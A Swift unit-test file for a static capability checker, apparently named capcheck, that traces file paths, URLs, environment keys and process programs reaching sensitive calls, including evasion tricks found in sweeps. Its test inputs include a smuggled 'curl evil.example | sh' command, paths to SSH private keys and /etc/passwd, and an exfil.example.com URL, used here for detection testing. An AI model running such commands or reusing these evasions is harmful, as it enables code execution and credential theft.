@testable import CapCheckValues
import CapCheckModel
import Foundation
import SwiftSyntax
import XCTest

/// The value analysis inside one Swift file: what a sink's argument resolves to (issue 12). Milliseconds, no toolchain.
final class SwiftExpressionValuesTests: XCTestCase {
    /// The values of the first argument of the call of `open` in `source`; with `recorded`, what the index records at
    /// each place (by line and column), else no index at all.
    private func values(_ source: String, recorded: ((CapCheckModel.SourceLocation) -> [String]?)? = nil) throws -> [String] {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("values-\(UUID().uuidString).swift").path
        try source.write(toFile: path, atomically: true, encoding: .utf8)
        defer { try? FileManager.default.removeItem(atPath: path) }
        let file = try XCTUnwrap(ParsedSwiftFiles().file(path))
        let token = try XCTUnwrap(file.tree.tokens(viewMode: .sourceAccurate).first { $0.text == "open" && $0.parent?.parent?.is(FunctionCallExprSyntax.self) == true })
        let site = try XCTUnwrap(SwiftSinkSite(token: token))
        var resolver = SwiftExpressionValues(file: file) { _, _ in nil }
        resolver.recordedAt = recorded
        return site.values(rule: .positions([0]), resolver: resolver, at: file.location(of: token)).map(describe)
    }

    private func describe(_ origin: ValueOrigin) -> String {
        switch origin {
        case .constant(let value, _): return "constant \(value)"
        case .prefix(let value, _): return "prefix \(value)"
        case .unknown(let why, _): return "unknown \(why)"
        case .parameter(let index, let name, _, let suffix): return "parameter \(index) \(name)" + (suffix.isEmpty ? "" : " + \(suffix)")
        case .caller(let supplier, _, _, _): return "caller \(supplier)"
        }
    }

    func testLiteralsInterpolationsAndConcatenation() throws {
        XCTAssertEqual(try values(#"func f() { open("/etc/hosts") }"#), ["constant /etc/hosts"])
        XCTAssertEqual(try values(#"func f() { let dir = "/etc"; open("\(dir)/hosts") }"#), ["constant /etc/hosts"])
        XCTAssertEqual(try values(#"func f(x: Int) { open("/tmp/\(x).log") }"#), ["prefix /tmp/"])
        XCTAssertEqual(try values(#"func f() { open("/etc/" + "ssl/" + "cert.pem") }"#), ["constant /etc/ssl/cert.pem"])
        XCTAssertEqual(try values(#"func f(flag: Bool) { open(flag ? "/a" : "/b") }"#), ["constant /a", "constant /b"])
        XCTAssertEqual(try values(#"func f(x: String?) { open(x ?? "/default") }"#), ["parameter 0 x", "constant /default"])
        XCTAssertEqual(try values(#"func f() { open("/tmp/a\nb") }"#).first?.hasPrefix("unknown"), true, "escapes are not decoded")
    }

    func testPathsBuiltWithURLKeepTheirText() throws {
        XCTAssertEqual(try values(#"func f() { open(URL(fileURLWithPath: "/etc").appendingPathComponent("hosts").path) }"#),
                       ["constant /etc/hosts"])
        XCTAssertEqual(try values(#"func f(name: String) { open(URL(fileURLWithPath: "/etc/ssl").appending(path: name)) }"#),
                       ["prefix /etc/ssl/"])
        XCTAssertEqual(try values(#"func f(dir: String) { open(URL(fileURLWithPath: dir).appendingPathComponent("config.json")) }"#),
                       ["parameter 0 dir + /config.json"], "the caller's folder, with the fixed name kept to be appended to it")
        XCTAssertEqual(try values(#"func f(dir: String) { open(dir + "/../../.ssh/id_rsa") }"#).first?.hasPrefix("unknown"), true,
                       "a constant that climbs out of the caller's folder is not the caller's value")
        // Found by the sixth sweep: Foundation drops a trailing `/` before it appends an extension.
        XCTAssertEqual(try values(#"func f() { open(URL(fileURLWithPath: "/tmp/ok/").appendingPathExtension("x").path) }"#),
                       ["constant /tmp/ok.x"])
        XCTAssertEqual(try values(#"func f(n: String) { open(URL(fileURLWithPath: "/tmp/ok/" + n).appendingPathExtension("x").path) }"#),
                       ["prefix /tmp/ok"])
    }

    /// Found by the sixth sweep: an object's text may change after it is made or passed (`NSMutableString.setString`).
    func testAnObjectHoldingTheTextIsNotItsFirstValue() throws {
        XCTAssertEqual(try values(#"func f() { let s: NSMutableString = .init(string: "/tmp/ok"); s.setString("/etc"); open(String(s)) }"#)
            .first?.hasPrefix("unknown"), true)
        XCTAssertEqual(try values(#"func f(_ p: NSMutableString) { p.setString("/etc"); open(String(p)) }"#).first?.hasPrefix("unknown"), true)
        XCTAssertEqual(try values(#"func f(_ p: NSString) { open(String(p)) }"#).first?.hasPrefix("unknown"), true, "it may be a mutable one")
        XCTAssertEqual(try values(#"func f(_ p: String?, _ q: [URL], _ r: some StringProtocol) { open(p!) }"#), ["parameter 0 p"])
        XCTAssertEqual(try values(#"func f() { let u: URL = .init(fileURLWithPath: "/tmp/ok"); open(u.path) }"#), ["constant /tmp/ok"])
    }

    /// Found by an evasion sweep: text that is not the path the file system gets, and names a nearer declaration the
    /// lookup cannot read would shadow.
    func testTextThatIsNotThePathAndShadowedNamesAreUnknown() throws {
        for source in [
            #"func f() { open(URL(fileURLWithPath: "/etc/ssl/x").absoluteString) }"#,
            #"func f() { open(URL(fileURLWithPath: "").appendingPathComponent("etc/ssl/x").path) }"#,
            #"func f() { open(URL(fileURLWithPath: "git").path) }"#,
            #"func f() { open(URL(string: "//etc/ssl/x")!.path) }"#,
            #"func f() { let p = "/etc/ok"; do { let (p, _) = ("/tmp/x", 0); open(p) } }"#,
            #"func f() { let p = "/etc/ok"; if case let p = "/tmp/x" { open(p) } }"#,
            "func f() { let p = \"/etc/ok\"; do {\n#if true\nlet p = \"/tmp/x\"\n#endif\nopen(p) } }",
        ] {
            XCTAssertEqual(try values(source).first?.hasPrefix("unknown"), true, source)
        }
        XCTAssertTrue(try values(#"func f() { open(URL(fileURLWithPath: "/tmp/m").appendingPathExtension("/../../etc/ssl/x").path) }"#)
            .contains("constant /tmp/m"), "Foundation leaves the URL as it is for an extension with a `/`")
        XCTAssertEqual(try values(#"func f() { let a: String? = "/etc/ok"; let b: String? = "/tmp/x"; if let p = a, let p = b { open(p) } }"#),
                       ["constant /tmp/x"], "the last binding of a condition list is the one the body sees")
        XCTAssertEqual(try values(#"func f() { let p = "/etc/ok"; let g = { [p = "/tmp/x"] in open(p) }; g() }"#), ["constant /tmp/x"],
                       "a capture list's value")
    }

    /// Past the limit, the values left out are one unknown named by a digest of their texts, not their places: another
    /// value among them is another unknown, which `diff` reports (the eighteenth sweep's: the last of 66 paths changed).
    func testValuesPastTheLimitAreNamedByWhatTheyAre() {
        func paths(_ last: String, file: String) -> [String] {
            let at = SourceLocation(file: file, line: 1, column: 1)
            let origins = (0..<65).map { ValueOrigin.constant("/tmp/p\($0)", at) } + [.constant(last, at)]
            return ValueJoin.unique(origins).map(describe)
        }
        let before = paths("/tmp/p65", file: "/v1/A.swift"), moved = paths("/tmp/p65", file: "/v2/A.swift"), after = paths("/secret", file: "/v1/A.swift")
        XCTAssertEqual(before.count, 64)
        XCTAssertEqual(before, moved, "the same values elsewhere")
        XCTAssertNotEqual(before.last, after.last, "a new value among those left out")
        XCTAssertEqual(before.dropLast(), after.dropLast())
    }

    /// Found by the nineteenth sweep, each run: `path()` escapes a URL's path (`/my%20dir`), and an interpolation renders
    /// a value by its type's `write(to:)` (a URL as `file:///…`, or what a retroactive conformance writes), so only a
    /// value the index shows is a string is its text.
    func testAnEscapedPathAndAnInterpolatedURLAreNotTheirText() throws {
        XCTAssertEqual(try values(#"func f() { open(URL(fileURLWithPath: "/tmp/my dir").path()) }"#).first?.hasPrefix("unknown"), true)
        XCTAssertEqual(try values(#"func f() { open(URL(fileURLWithPath: "/tmp/my dir").path(percentEncoded: true)) }"#).first?.hasPrefix("unknown"), true)
        XCTAssertEqual(try values(#"func f() { open(URL(fileURLWithPath: "/tmp/my dir").path(percentEncoded: false)) }"#), ["constant /tmp/my dir"])
        XCTAssertEqual(try values(#"func f() { open(URL(fileURLWithPath: "/tmp/plain").path()) }"#), ["constant /tmp/plain"])
        // What the index records on line 3: the literal's `String(stringInterpolation:)` at its quote (column 10), the
        // segment's `appendInterpolation` at its `(` (12), and the variable at its name (13), whose USR ends in its type.
        func interpolated(_ declaration: String, type usr: String) throws -> [String] {
            try values("func f() {\n    let value = \(declaration)\n    open(\"\\(value)\")\n}\n", recorded: { site in
                guard site.line == 3 else { return nil }
                switch site.column {
                case 10: return [SwiftExpressionValues.stringInterpolation]
                case 12: return [SwiftExpressionValues.stringSegment]
                case 13: return [usr]
                default: return nil
                }
            })
        }
        XCTAssertEqual(try interpolated(#""/tmp/ok""#, type: "s:4main1fyyF5valueL_SSvp"), ["constant /tmp/ok"])
        for usr in ["s:3Dep5LinuxO5mountSSSgvgZ", "s:3Dep5LinuxO5mountSSSgvpZ", "s:4main4pathSSvp", "s:4main1S4nameSsvg"] {
            XCTAssertTrue(SwiftExpressionValues.namesText(usr), usr)
        }
        for usr in ["s:4main4file10Foundation3URLVvp", "s:4main5namesSaySSGvp", "s:4main4pathSSyF"] {
            XCTAssertFalse(SwiftExpressionValues.namesText(usr), usr)
        }
        XCTAssertEqual(try interpolated(#"URL(fileURLWithPath: "/tmp/ok")"#, type: "s:4main1fyyF5valueL_10Foundation3URLVvp"),
                       ["prefix "], "nothing is known but that the text starts with what is before the segment")
    }

    /// Found by the seventeenth sweep, each run with check exiting 0: back-quoted names compared by their text (a
    /// loop variable, a process's program, a property's write), and names a `catch` clause or an accessor's parameter
    /// binds, each of which let an outer `p` be read instead.
    func testBackQuotedNamesCatchBindingsAndAccessorParametersAreTheirOwn() throws {
        for source in [
            #"func f() { let p = "/etc/ok"; for `p` in ["/tmp/x"] { open(p) } }"#,
            #"func f() { let p = "/etc/ok"; do { try g() } catch Oops.file(let p) { open(p) } }"#,
            #"func f() { let p = "/etc/ok"; do { try g() } catch let p as String { open(p) } }"#,
            #"func f() { let p = "/etc/ok"; do { try g() } catch let p where open(p) { } }"#,
            #"func f() { let error = "/etc/ok"; do { try g() } catch { open(error) } }"#,
            #"func f() { let p = "/etc/ok"; var q: String { get { "" } set(p) { open(p) } }; q = "/tmp/x" }"#,
            #"func f() { let p = "/etc/ok"; var q = "" { didSet(p) { open(p) } }; q = "/tmp/x" }"#,
        ] {
            XCTAssertEqual(try values(source).contains { $0.hasPrefix("unknown") || $0 == "constant /tmp/x" }, true, source)
            XCTAssertFalse(try values(source).contains("constant /etc/ok"), source)
        }
        XCTAssertEqual(try values(#"func f() { let `p` = "/etc/ok"; open(`p`) }"#), ["constant /etc/ok"], "the same name either way")
    }

    /// A local `var`, or a `let` given its value later, is every value assigned to it in its scope, in any order; any
    /// other write (`&p`, `p += …`, a member used on a `var`, which may be `mutating`) or a second declaration of the
    /// name leaves it unknown.
    func testALocalAssignedOnlyByPlainAssignmentsIsEachValueAssigned() throws {
        XCTAssertEqual(try values(#"func f() { var p = "/a"; p = "/b"; open(p) }"#), ["constant /a", "constant /b"])
        XCTAssertEqual(try values(#"func f(v: Int) { var p: String?; switch v { case 1: p = "/sys/a"; default: p = "/sys/b" }; if let p { open(p) } }"#),
                       ["constant /sys/a", "constant /sys/b"])
        XCTAssertEqual(try values(#"func f(v: Bool, d: String) { let p: String; if v { p = "/a" } else { p = d }; open(p) }"#),
                       ["constant /a", "parameter 1 d"])
        XCTAssertEqual(try values(#"func f() { var p = "/a"; open(p); p = "/b" }"#), ["constant /a", "constant /b"], "flow-insensitive")
        // Found by an evasion sweep: a write in parentheses, however nested.
        XCTAssertEqual(try values(#"func f(v: Bool) { let p: String; if v { p = "/a" } else { ((p)) = "/b" }; open(p) }"#).first?.hasPrefix("unknown"), true)
        XCTAssertEqual(try values(#"func f() { open("/a\u{0}/../b") }"#).first?.hasPrefix("unknown"), true, "an escape")
        XCTAssertEqual(try values("func f() { open(\"/a\u{0}/../b\") }").first, "unknown a string literal with a control character")
        XCTAssertEqual(try values(#"func f(u: URL) { open(String(describing: u)) }"#).first?.hasPrefix("unknown"), true,
                       "`String(describing:)` renders a URL as `file://…`, an optional as `Optional(…)`")
        XCTAssertEqual(try values(#"func f() { var p = "/a"; p += "/../../root"; open(p) }"#).first?.hasPrefix("unknown"), true)
        XCTAssertEqual(try values(#"func f() { var p = "/a"; g(&p); open(p) }"#).first?.hasPrefix("unknown"), true)
        XCTAssertEqual(try values(#"func f() { var p = "/a"; var q = 1; (p, q) = (readLine()!, 2); open(p) }"#).first?.hasPrefix("unknown"), true)
        XCTAssertEqual(try values(#"func f() { var p = "/a"; p.append("x"); open(p) }"#).first?.hasPrefix("unknown"), true)
        XCTAssertEqual(try values(#"func f() { var p = "/a"; _ = p.evil; open(p) }"#).first?.hasPrefix("unknown"), true,
                       "a `mutating get` could change it")
        XCTAssertEqual(try values(#"func f() { var p = "/a"; do { let p = 1; _ = p }; open(p) }"#).first?.hasPrefix("unknown"), true)
        XCTAssertEqual(try values(#"func f() { var p = "/a"; let c = { p = readLine()! }; c(); open(p) }"#).contains { $0.hasPrefix("unknown") }, true,
                       "a closure's assignment counts too")
        XCTAssertEqual(try values(#"func f() { var p: String; open(p) }"#).first?.hasPrefix("unknown"), true)
        // Writes found by an evasion sweep, each once read as the initial value only: now unknown, or `/tmp/x` among
        // the values (a backticked name is the same name).
        for source in [
            #"func f() { var p = "/etc/ssl/a"; ((p, _), _) = (("/tmp/x", 0), 0); open(p) }"#,
            #"func f() { var p: String? = "/etc/ssl/a"; p! = "/tmp/x"; open(p!) }"#,
            #"func f() { var p: String? = "/etc/ssl/a"; p? = "/tmp/x"; open(p!) }"#,
            #"func f() { var p = "/etc/ssl/a"; `p` = "/tmp/x"; open(p) }"#,
            #"func f() { var p = "/etc/ssl/a"; p <~ "/tmp/x"; open(p) }"#,
            #"func f(o: String?) { if var p = o { p = "/tmp/x"; open(p) } }"#,
        ] {
            XCTAssertEqual(try values(source).contains { $0.hasPrefix("unknown") || $0 == "constant /tmp/x" }, true, source)
        }
        XCTAssertEqual(try values(#"func f() { var p = "/etc/ssl/a"; print("\(p)"); open(p) }"#), ["constant /etc/ssl/a"], "an interpolation reads it")
    }

    /// A URL parsed from a string reads percent escapes: its path is not the string's text. A query or a fragment ends
    /// the place the URL names: what comes before it is the value (the thirteenth sweep: a query made the URL unknown,
    /// and `diff` did not see its new host).
    func testAURLParsedFromAStringWithEscapesIsUnknownAndItsQueryIsCutOff() throws {
        XCTAssertEqual(try values(#"func f() { open(URL(string: "/tmp/x?/../../etc/ssl/a")!.path) }"#), ["constant /tmp/x"])
        XCTAssertEqual(try values(#"func f() { open(URL(string: "https://exfil.example.com/ping?v=1#top")!) }"#),
                       ["constant https://exfil.example.com/ping"])
        XCTAssertEqual(try values(#"func f(v: String) { open(URL(string: "https://h.example.com/p?v=" + v)!) }"#),
                       ["constant https://h.example.com/p"], "a prefix that reaches the query is all the place there is")
        XCTAssertEqual(try values(#"func f() { open(URL(string: "https://h.example.com/%2e%2e/x?v=1")!) }"#).first?.hasPrefix("unknown"), true)
        XCTAssertEqual(try values(#"func f() { open(URL(string: "/etc/ssl/%2E%2E/%2E%2E/tmp/x")!.path) }"#).first?.hasPrefix("unknown"), true)
        XCTAssertEqual(try values(#"func f() { open(URL(fileURLWithPath: "/etc/ssl/a").path) }"#), ["constant /etc/ssl/a"])
    }

    /// A closure called where it is written returns what its own `return`s do (a nested closure's are not its).
    func testAClosureCalledInPlaceIsWhatItReturns() throws {
        XCTAssertEqual(try values(#"enum E { static let p: String? = { if Bool.random() { return "/a" }; return nil }(); static func f() { open(p!) } }"#),
                       ["constant /a"])
        XCTAssertEqual(try values(#"func f() { let p = { "/etc/x" }(); open(p) }"#), ["constant /etc/x"])
        XCTAssertEqual(try values(#"func f(d: String) { let p = { let g = { return "/no" }; _ = g; return d + "/x" }(); open(p) }"#),
                       ["parameter 0 d + /x"])
        XCTAssertEqual(try values(#"func f() { let p = { readLine()! }(); open(p) }"#).first?.hasPrefix("unknown"), true)
    }

    func testNamesResolveByScope() throws {
        XCTAssertEqual(try values(#"enum E { static let path = "/etc/a"; static func f() { open(path) } }"#), ["constant /etc/a"])
        XCTAssertEqual(try values(#"enum E { static let path = "/etc/a"; static func f() { open(Self.path) } }"#), ["constant /etc/a"])
        XCTAssertEqual(try values(#"let root = "/srv"; func f() { open(root + "/x") }"#), ["constant /srv/x"])
        XCTAssertEqual(try values(#"func f(_ a: Int, path p: String) { open(p) }"#), ["parameter 1 p"])
        XCTAssertEqual(try values(#"func f(p: String?) { if let q = p { open(q) } }"#), ["parameter 0 p"])
        XCTAssertEqual(try values(#"func f(p: String?) { guard let p else { return }; open(p) }"#), ["parameter 0 p"])
        XCTAssertEqual(try values(#"func f(all: [String]) { for p in all { open(p) } }"#).first?.hasPrefix("unknown"), true)
        XCTAssertEqual(try values(#"let dirs = ["/etc/ssl", "/usr/lib/ssl"]; func f() { for d in dirs { open(d) } }"#),
                       ["constant /etc/ssl", "constant /usr/lib/ssl"], "a loop over a constant array")
        XCTAssertEqual(try values(#"private let paths = ["/a", "/b"]; func f() { _ = paths.first(where: { open($0) }) }"#),
                       ["constant /a", "constant /b"], "a closure a collection method calls with each element")
        XCTAssertEqual(try values(#"func f(dir: String) { func g() { open(dir) }; g() }"#), ["parameter 0 dir"],
                       "a nested function sees its enclosing function's parameters")
        XCTAssertEqual(try values(#"func f(fd: Int) { open(FilePath("/proc/self/fd/\(fd)")) }"#), ["prefix /proc/self/fd/"])
        XCTAssertEqual(try values(#"enum E { case file(String) }; func f(e: E) { switch e { case .file(let p): open(p) } }"#).first,
                       "unknown `p` is the payload of an enum case matched here, made where capcheck does not read",
                       "without the index, no construction of the case is known")
        XCTAssertEqual(try values(#"enum E { case f(String) }; func f(e: E) { switch e { case .f(var p): open(p) } }"#).first,
                       "unknown `p` is bound by a pattern capcheck does not read")
        XCTAssertEqual(try values(#"func f() { ["/a"].forEach { open($0) } }"#), ["constant /a"])
        XCTAssertEqual(try values(#"func f() { g { open($0) } }"#).first?.hasPrefix("unknown"), true, "a closure someone else calls")
        XCTAssertEqual(try values(#"func f(path: String) { path.withCString { open($0, 0) } }"#), ["parameter 0 path"],
                       "a closure a string lends itself to gets the string")
        XCTAssertEqual(try values(#"func f() { "/etc/hosts".withCString { p in open(p, 0) } }"#), ["constant /etc/hosts"])
        XCTAssertEqual(try values(#"let sysOpen: (String) -> Int = { open($0) }"#), ["parameter 0 $0"],
                       "a stored closure's parameters are its callers' arguments")
        XCTAssertEqual(try values(#"struct S { let p: String; func f() { open(p) } }"#).first?.hasPrefix("unknown"), true,
                       "a stored property set at run time")
        for write in ["(h.p) = \"/b\"", "(h.p, n) = (\"/b\", 1)", "h.p[keyPath: \\String.self] = \"/b\"", "\"/b\" => h.p", "h.p~~", "^^h.p"] {
            XCTAssertEqual(try values("final class H { var p = \"/a\"; func f() { open(p) } }; func g(h: H, n: Int) { var n = n; \(write) }").first?.hasPrefix("unknown"), true, write)
        }
        XCTAssertEqual(try values(#"func f() { open(readLine()!) }"#).first?.hasPrefix("unknown"), true)
        XCTAssertEqual(try values("#if os(Linux)\nprivate let paths = [\"/a\", \"/b\"]\n#endif\nfunc f() { for p in paths { open(p) } }"),
                       ["constant /a", "constant /b"], "a global declared in a file-scope `#if` is a global, not a local")
        XCTAssertEqual(try values("enum E {\n#if os(Linux)\nstatic let path = \"/etc/a\"\n#endif\nstatic func f() { open(path) } }"),
                       ["constant /etc/a"], "a member declared in an `#if` among a type's members")
    }

    /// Which payload value of which case a pattern binds a name to, in the forms read; any other form is not read.
    func testPayloadBindingsAreReadInTheirPlainForms() throws {
        func payload(_ pattern: String, _ name: String = "p") throws -> String? {
            let path = FileManager.default.temporaryDirectory.appendingPathComponent("payload-\(UUID().uuidString).swift").path
            try "switch x { case \(pattern): break }".write(toFile: path, atomically: true, encoding: .utf8)
            defer { try? FileManager.default.removeItem(atPath: path) }
            let file = try XCTUnwrap(ParsedSwiftFiles().file(path))
            let item = try XCTUnwrap(file.tree.tokens(viewMode: .sourceAccurate).lazy.compactMap { token -> SwitchCaseItemSyntax? in
                var node = token.parent
                while let current = node, !current.is(SwitchCaseItemSyntax.self) { node = current.parent }
                return node?.as(SwitchCaseItemSyntax.self)
            }.first)
            return SwiftNameLookup.payload(name, boundBy: item.pattern).map { "\($0.caseName.text) \($0.index)/\($0.arity)" }
        }
        XCTAssertEqual(try payload(".file(let p)"), "file 0/1")
        XCTAssertEqual(try payload("let .file(p)"), "file 0/1")
        XCTAssertEqual(try payload("Source.pair(_, let p)"), "pair 1/2")
        XCTAssertEqual(try payload(".pair(name: let p, mode: _)"), "pair 0/2")
        XCTAssertNil(try payload(".file(var p)"), "a `var` may change")
        XCTAssertNil(try payload("var .file(p)"))
        XCTAssertNil(try payload(".wrap(.file(let p))"), "a nested pattern")
        XCTAssertNil(try payload(".pair(let p, let p)"), "bound twice")
        XCTAssertNil(try payload(".file(let p)?"), "an optional pattern")
        XCTAssertNil(try payload("let p"), "not a case")
    }

    func testNetworkValuesAreHostAndPort() {
        let at = SourceLocation(file: "f", line: 1, column: 1)
        func endpoint(_ origin: ValueOrigin) -> String {
            switch NetworkEndpoint.endpoint(origin) {
            case .constant(let value, _): return "constant \(value)"
            case .prefix(let value, _): return "prefix \(value)"
            default: return "unknown"
            }
        }
        XCTAssertEqual(endpoint(.constant("https://api.example.com/v1", at)), "constant api.example.com:443")
        XCTAssertEqual(endpoint(.constant("http://user@10.0.0.7:8080/x", at)), "constant 10.0.0.7:8080")
        XCTAssertEqual(endpoint(.constant("example.com", at)), "prefix example.com:")
        XCTAssertEqual(endpoint(.constant("[::1]:443", at)), "constant [::1]:443")
        XCTAssertEqual(endpoint(.prefix("https://api.example.com/", at)), "constant api.example.com:443")
        XCTAssertEqual(endpoint(.prefix("https://api.exam", at)), "unknown", "the host itself is cut off")
        // Found by the sixth sweep: what follows may continue the port or turn the host into a user name.
        XCTAssertEqual(endpoint(.prefix("http://127.0.0.1:8080", at)), "unknown", "`@127.0.0.1:9000/` may follow")
        XCTAssertEqual(endpoint(.prefix("http://127.0.0.1:80", at)), "unknown", "`80` may follow")
    }

    /// The values `rule` gives at the call of the member named `member` in `source`.
    private func values(_ source: String, member: String, rule: SinkArgumentRule) throws -> [String] {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("values-\(UUID().uuidString).swift").path
        try source.write(toFile: path, atomically: true, encoding: .utf8)
        defer { try? FileManager.default.removeItem(atPath: path) }
        let file = try XCTUnwrap(ParsedSwiftFiles().file(path))
        let token = try XCTUnwrap(Array(file.tree.tokens(viewMode: .sourceAccurate)).last { $0.text == member })
        let site = try XCTUnwrap(SwiftSinkSite(token: token))
        return site.values(rule: rule, resolver: SwiftExpressionValues(file: file) { _, _ in nil }, at: file.location(of: token)).map(describe)
    }

    func testEveryPathArgumentOfAFileSystemCallCounts() throws {
        XCTAssertEqual(try values(#"func f() { try? FileManager.default.replaceItemAt(URL(fileURLWithPath: "/root/.ssh/id_rsa"), withItemAt: URL(fileURLWithPath: "/etc/ok")) }"#,
                                  member: "replaceItemAt", rule: .pathArguments),
                       ["constant /root/.ssh/id_rsa", "constant /etc/ok"], "the unlabelled first path as well as the labelled one")
        // Found by the fifth sweep: the backup's name is a path beside the original.
        func replace(backup: String) throws -> [String] {
            try values(#"func f() { try? FileManager.default.replaceItemAt(URL(fileURLWithPath: "/tmp/ok/x"), withItemAt: URL(fileURLWithPath: "/tmp/ok/y"), backupItemName: \#(backup), options: []) }"#,
                       member: "replaceItemAt", rule: .pathArguments)
        }
        XCTAssertEqual(try replace(backup: #""x.bak""#), ["constant /tmp/ok/x", "constant /tmp/ok/y", "constant /tmp/ok/x.bak"])
        XCTAssertEqual(try replace(backup: "nil"), ["constant /tmp/ok/x", "constant /tmp/ok/y"])
        XCTAssertEqual(try replace(backup: #""../outside/backup""#).last?.hasPrefix("unknown"), true, "a name that climbs out")
        XCTAssertEqual(try replace(backup: "name").last?.hasPrefix("unknown"), true, "a name made at run time")
        XCTAssertEqual(try values(#"func f() { try? FileManager.default.setAttributes([.posixPermissions: 0o777], ofItemAtPath: "/tmp/ok/x") }"#,
                                  member: "setAttributes", rule: .pathArguments), ["constant /tmp/ok/x"], "the attributes are not a path")
    }

    /// Found by the fifth sweep: an `inout` parameter may be assigned before the use, so it is not the caller's value.
    func testAnInoutParameterIsNotTheCallersValue() throws {
        XCTAssertEqual(try values("func f(_ path: String) { open(path) }"), ["parameter 0 path"])
        XCTAssertEqual(try values(#"func f(_ path: inout String) { path = "/etc/passwd"; open(path) }"#).first?.hasPrefix("unknown"), true)
        XCTAssertEqual(try values(#"let f = { (path: inout String) in path = "/etc/passwd"; open(path) }"#).first?.hasPrefix("unknown"), true)
    }

    func testAProcessProgramIsKnownOnlyForALocalProcessNoOtherCodeTouches() throws {
        let local = #"func f() throws { let p = Process(); p.executableURL = URL(fileURLWithPath: "/usr/bin/git"); p.arguments = []; try p.run() }"#
        XCTAssertEqual(try values(local, member: "run", rule: .programOfReceiver), ["constant /usr/bin/git"])
        let handedOn = #"func f() throws { let p = Process(); p.executableURL = URL(fileURLWithPath: "/usr/bin/git"); configure(p); try p.run() }"#
        XCTAssertEqual(try values(handedOn, member: "run", rule: .programOfReceiver).first?.hasPrefix("unknown"), true,
                       "configure(p) may set another program")
        // Found by the eighth sweep: `p.self` is the process under another spelling.
        let respelled = #"func f() throws { let p = Process(); p.executableURL = URL(fileURLWithPath: "/usr/bin/git"); p.self.executableURL = URL(fileURLWithPath: "/bin/sh"); try p.run() }"#
        XCTAssertEqual(try values(respelled, member: "run", rule: .programOfReceiver).first?.hasPrefix("unknown"), true)
        // Found by the seventeenth sweep: a back-quoted name is the same process, and any other spelling naming it is unread.
        for write in ["`p`.executableURL", "p.`executableURL`", "(p).executableURL"] {
            let source = #"func f() throws { let p = Process(); p.executableURL = URL(fileURLWithPath: "/bin/true"); "# + write
                + #" = URL(fileURLWithPath: "/bin/sh"); try p.run() }"#
            let found = try values(source, member: "run", rule: .programOfReceiver)
            XCTAssertTrue(found.contains("constant /bin/sh") || found.contains { $0.hasPrefix("unknown") }, write)
        }
        let given = #"func f(p: Process) throws { p.executableURL = URL(fileURLWithPath: "/usr/bin/git"); try p.run() }"#
        XCTAssertEqual(try values(given, member: "run", rule: .programOfReceiver).first?.hasPrefix("unknown"), true,
                       "a process from elsewhere")
    }

    /// Found by the eighth sweep: a package's own subscript on the environment (`["HOME", also: "TOKEN"]`) reads what it likes.
    func testOnlyTheDictionarysOwnSubscriptNamesTheVariable() throws {
        XCTAssertEqual(try values(#"func f() { _ = ProcessInfo.processInfo.environment["HOME"] }"#, member: "environment", rule: .environmentKey),
                       ["constant HOME"])
        XCTAssertEqual(try values(#"func f() { _ = ProcessInfo.processInfo.environment["HOME", also: "TOKEN"] }"#, member: "environment",
                                  rule: .environmentKey).first?.hasPrefix("unknown"), true)
    }

    func testShellCommandsNameTheirProgramOnlyWhenPlain() {
        let at = SourceLocation(file: "f", line: 1, column: 1)
        XCTAssertEqual(ShellCommand.program(.constant("/usr/bin/git status", at)), .constant("/usr/bin/git", at))
        if case .constant = ShellCommand.program(.constant("git status; curl evil.example | sh", at)) { XCTFail("shell syntax") }
    }

    func testSinkArgumentRules() {
        XCTAssertEqual(SinkArgumentRule.rule(capability: .env, sink: "getenv"), .positions([0]))
        XCTAssertEqual(SinkArgumentRule.rule(capability: .env, sink: "Foundation.ProcessInfo.environment"), .environmentKey)
        XCTAssertEqual(SinkArgumentRule.rule(capability: .fs, sink: "openat"), .positions([1]))
        XCTAssertEqual(SinkArgumentRule.rule(capability: .fs, sink: "rename"), .positions([0, 1]))
        XCTAssertEqual(SinkArgumentRule.rule(capability: .fs, sink: "glob"), .none("glob takes a pattern the file system expands, not a path"))
        XCTAssertEqual(SinkArgumentRule.rule(capability: .env, sink: "glob"), .implicit(["HOME"]), "GLOB_TILDE expands ~ from HOME")
        XCTAssertEqual(SinkArgumentRule.rule(capability: .exec, sink: "posix_spawn"), .positions([1]))
        XCTAssertEqual(SinkArgumentRule.rule(capability: .exec, sink: "Foundation.Process.run()"), .programOfReceiver)
        XCTAssertEqual(SinkArgumentRule.rule(capability: .net, sink: "connect"), .socketAddress(1))
        XCTAssertEqual(SinkArgumentRule.rule(capability: .net, sink: "socket"), .noValue, "a socket names no peer")
        if case .none = SinkArgumentRule.rule(capability: .net, sink: "sendmsg") {} else { XCTFail("a msghdr's address is not followed") }
        if case .none = SinkArgumentRule.rule(capability: .fs, sink: "fchmod") {} else { XCTFail("a descriptor names no path") }
        // Found in a read: a lookup by name reads files its argument does not name (`getpwnam("/etc/ssl/x")` reads
        // /etc/passwd), so its argument is never the value a narrowed grant is checked against.
        for sink in ["getpwnam", "getspnam", "_nss_files_getpwnam_r", "gettext", "dcgettext", "catopen", "__res_context_hostalias"] {
            if case .none = SinkArgumentRule.rule(capability: .fs, sink: sink) {} else { XCTFail("\(sink) takes no path") }
        }
        XCTAssertEqual(SinkArgumentRule.rule(capability: .fs, sink: "fopen"), .positions([0]))
        XCTAssertEqual(SinkArgumentRule.rule(capability: .fs, sink: "ftok"), .positions([0]), "ftok stats the path it is given")
    }
}
